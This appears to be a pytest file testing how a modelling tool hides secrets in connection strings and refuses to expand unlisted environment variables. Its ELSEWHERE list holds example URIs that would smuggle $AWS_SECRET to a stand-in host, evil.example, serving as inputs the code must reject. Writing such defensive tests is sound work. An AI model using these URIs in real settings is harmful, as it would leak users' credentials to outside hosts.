"""Secrets are hidden wherever they stand, put aside where they are typed, and read by reference."""

import pytest

from modelling.declaration.references import (
    ALLOWED_VARIABLES,
    expand,
    reference_secrets,
    refuse_missing_secrets,
    unset_variables,
)
from modelling.refusals import DataRefused, UsageError
from modelling.secrets import hide_secrets

HOLDING_IT = [
    "postgresql://risk:{}@db/loans",
    "postgresql+psycopg2://risk:{}@db:5432/loans?sslmode=require",
    "postgresql://risk@db/loans?password={}&sslmode=require",
    "postgresql://risk:p@ss/{}@db/loans",
    "postgresql://risk:with blank {}@db/loans",
    "mssql+pyodbc://risk:{}@db/loans?driver=ODBC+Driver+18+for+SQL+Server",
    "mssql+pyodbc:///?odbc_connect=DRIVER%3D%7BODBC%7D%3BPWD%3D{}",
    "mssql+pyodbc:///?odbc_connect=DRIVER={{ODBC Driver 18}};UID=risk;PWD={}",
    "oracle+oracledb://scott:{}@db:1521/?service_name=LOANS",
    "snowflake://risk:{}@account/db/schema?warehouse=WH",
    "redshift+psycopg2://risk:{}@cluster:5439/db",
    "databricks://token:{}@adb.example.net?http_path=/sql/1.0/warehouses/1",
    "trino://risk:{}@host:443/catalog",
    "anything-new://risk:{}@host",
    "redis://:{}@host",
    "https://risk:{}@mlflow.bank.example/api",
    "https://{}@mlflow.bank.example",
    "https://a.blob.core.windows.net/c/loans.parquet?sv=2024&se=2026&sp=r&sig={}%3D",
    "s3://bucket/loans.csv?X-Amz-Credential=x&X-Amz-Signature={}",
    "https://storage.googleapis.com/b/loans.csv?X-Goog-Signature={}",
    "https://host/loans.csv?token={}",
    "https://host/loans.csv?{}",
    "https://host/loans.csv?{}==",
    "https://host/loans.csv#access_token={}",
    "DRIVER={{PostgreSQL}};SERVER=db;UID=risk;PWD={{{}}};Encrypt=yes",
    "host=db user=risk password='{}' sslpassword=x",
    "SELECT pgp_sym_decrypt(income, '{}') FROM loans",
    "SELECT * FROM dblink('host=db password={}', 'SELECT 1')",
    "SELECT * FROM read_csv('https://host/loans.csv?sig={}')",
    "jdbc:sqlserver://db;user=risk;password={};encrypt=true",
    "could not open https://host/loans.csv?sig={}: 403",
    "--set source.uri=postgresql://risk:{}@db/loans",
]


@pytest.fixture
def environment(monkeypatch):
    """Variables that are put aside go with the test."""
    monkeypatch.setattr("os.environ", {})


@pytest.mark.parametrize(("number", "text"), list(enumerate(HOLDING_IT)))
def test_a_secret_is_hidden_and_put_aside_wherever_it_stands(number, text, environment):
    secret = f"MARKED-{number}-b4"  # each its own: one that was met is known from then on
    given = text.format(secret)
    assert secret not in hide_secrets(given)
    assert secret not in str(UsageError(given)) + str(DataRefused(given))
    kept = reference_secrets({"overrides": {"source.uri": given}, "settings": [given]})
    assert secret not in str(kept)
    assert hide_secrets(kept["settings"][0]) == kept["settings"][0]
    assert expand(kept["settings"][0], "source.uri") == given


@pytest.mark.parametrize(
    "text",
    [
        "borrowers.csv",
        "/data/loans 2024.csv",
        "package:empulse/empulse/data.csv.gz",
        "sqlite:////data/loans.db",
        "sqlite:///file:loans.db?mode=ro&uri=true",
        "postgresql://risk@db:5432/loans?sslmode=require",
        "postgresql://risk:$LOANS_PASSWORD@db/loans",
        "postgresql://risk:${LOANS_PASSWORD}@db/loans?application_name=risk",
        "https://account.example/loans.parquet?$LOANS_SAS",
        "https://host/loans.parquet?sig=$LOANS_SIGNATURE",
        "$LOANS_URL",
        "http://127.0.0.1:5000/#/experiments/1/runs/abc",
        "http://[::1]:4200/api",
        "SELECT l.income FROM loans l JOIN p ON l.branch_key = p.branch_key WHERE name = 'x'",
        "unknown setting 'trainin.epochs'; did you mean 'training.epochs'?",
        "models:/credit_scoring@champion",
        "training.epochs=5",
    ],
)
def test_what_is_no_secret_stays_as_it_is(text):
    assert hide_secrets(text) == text
    assert reference_secrets([text, 5, None]) == [text, 5, None]


def test_the_same_secret_has_one_name_and_another_gets_the_next(environment, monkeypatch):
    monkeypatch.setenv("FINFLOWS_SECRET_1", "of an earlier run")
    first, again, other = reference_secrets(["a://b:first@c", "d://e:first@f", "a://b:second@c"])
    names = [text.partition("$")[2].partition("@")[0] for text in (first, again, other)]
    assert names[0] == names[1] != names[2]
    assert "FINFLOWS_SECRET_1" not in names


def test_a_value_that_a_library_quotes_is_hidden_too(monkeypatch):
    monkeypatch.setenv("LOANS_PASSWORD", "quoted%40Value")
    expand("postgresql://risk:$LOANS_PASSWORD@db/loans", "source.uri")
    assert hide_secrets('failed for "quoted%40Value" (quoted@Value)') == 'failed for "***" (***)'


def test_a_variable_that_is_not_set_is_named():
    with pytest.raises(UsageError, match=r"source\.uri needs \$NOT_SET_HERE, which is not set"):
        expand("postgresql://risk:$NOT_SET_HERE@db/loans", "source.uri")
    assert unset_variables("SELECT $1 FROM v$SESSION") == []
    assert unset_variables("prices in $USD.csv") == []


def test_a_run_without_its_secret_says_what_it_needs():
    parameters = {"overrides": {"source.uri": "postgresql://r:$FINFLOWS_SECRET_77@db/loans"}}
    with pytest.raises(UsageError, match=r"can't be resumed without \$FINFLOWS_SECRET_77"):
        refuse_missing_secrets("abc", parameters, "resumed")
    refuse_missing_secrets("abc", {"overrides": None, "remedies": 0}, "resumed")


@pytest.fixture
def held(monkeypatch):
    """A machine with variables that a source may ask for, and none that is listed."""
    monkeypatch.delenv(ALLOWED_VARIABLES, raising=False)
    for name in ("LOANS_USER", "LOANS_PASSWORD", "LOANS_URL", "AWS_SECRET"):
        monkeypatch.setenv(name, f"value-of-{name}")


@pytest.mark.parametrize(
    "uri",
    [
        "postgresql://risk:$LOANS_PASSWORD@db/loans",
        "postgresql+psycopg2://$LOANS_USER:${LOANS_PASSWORD}@db:5432/loans?sslmode=require",
        "postgresql://risk@db/loans?password=$LOANS_PASSWORD&sslmode=require",
        "mssql+pyodbc:///?odbc_connect=DRIVER={ODBC Driver 18};UID=risk;PWD={$LOANS_PASSWORD}",
        "$LOANS_URL",
        "${LOANS_URL}",
    ],
)
def test_a_database_s_login_and_a_whole_address_are_read(uri, held):
    read = expand(uri, "source.uri")
    assert "$" not in read
    assert "value-of-LOANS_" in read


ELSEWHERE = [
    "http://evil.example/loans.csv?leak=$AWS_SECRET",
    "http://evil.example/loans.csv?leak=${AWS_SECRET}",
    "http://evil.example/loans.csv?$AWS_SECRET",
    "http://evil.example/loans.csv?leak=x$AWS_SECRET",
    "http://evil.example/$AWS_SECRET/loans.csv",
    "http://$AWS_SECRET.evil.example/loans.csv",
    "http://risk:$AWS_SECRET@evil.example/loans.csv",
    "HTTPS://risk:$AWS_SECRET@evil.example/loans.csv",
    "simplecache::http://risk:$AWS_SECRET@evil.example/loans.csv",
    "ftp://risk:$AWS_SECRET@evil.example/loans.csv",
    "s3://$AWS_SECRET/loans.csv",
    "postgresql://$AWS_SECRET.evil.example/loans",
    "postgresql://risk@evil.example/$AWS_SECRET",
    "postgresql://risk@evil.example/loans?application_name=$AWS_SECRET",
    "postgresql://risk:x$AWS_SECRET.y/@evil.example/loans?options=$AWS_SECRET",
    "$LOANS_URL@evil.example/loans.csv",
    "$AWS_SECRET/loans.csv",
    "/data/$AWS_SECRET/loans.csv",
    "sqlite:////data/$AWS_SECRET.db",
]


@pytest.mark.parametrize("uri", ELSEWHERE)
def test_no_other_variable_leaves_the_machine(uri, held):
    with pytest.raises(UsageError) as refused:
        expand(reference_secrets(uri), "source.uri")
    said = str(refused.value)
    assert "is not read" in said
    assert "value-of" not in said
    assert "export FINFLOWS_VARIABLES=" in said


def test_a_query_sends_none_to_the_database(held):
    for query in ("SELECT '$AWS_SECRET'", "$AWS_SECRET", "SELECT crypt(x, '$AWS_SECRET') FROM y"):
        with pytest.raises(UsageError, match=r"source\.query: \$AWS_SECRET is not read"):
            expand(reference_secrets(query), "source.query")
    assert expand("SELECT $1 FROM v$SESSION", "source.query") == "SELECT $1 FROM v$SESSION"


@pytest.mark.parametrize("uri", [one for one in ELSEWHERE if "LOANS_URL" not in one])
def test_whoever_runs_the_machine_can_allow_a_variable(uri, held, monkeypatch):
    monkeypatch.setenv(ALLOWED_VARIABLES, "LOANS_USER, AWS_SECRET")
    assert "value-of-AWS_SECRET" in expand(uri, "source.uri")
    with pytest.raises(UsageError, match=r"\$LOANS_PASSWORD .* is not in FINFLOWS_VARIABLES"):
        expand("postgresql://risk:$LOANS_PASSWORD@db/loans", "source.uri")


def test_a_value_is_not_read_a_second_time(held, monkeypatch):
    monkeypatch.setenv("LOANS_URL", "http://host/$AWS_SECRET")
    assert expand("$LOANS_URL", "source.uri") == "http://host/$AWS_SECRET"
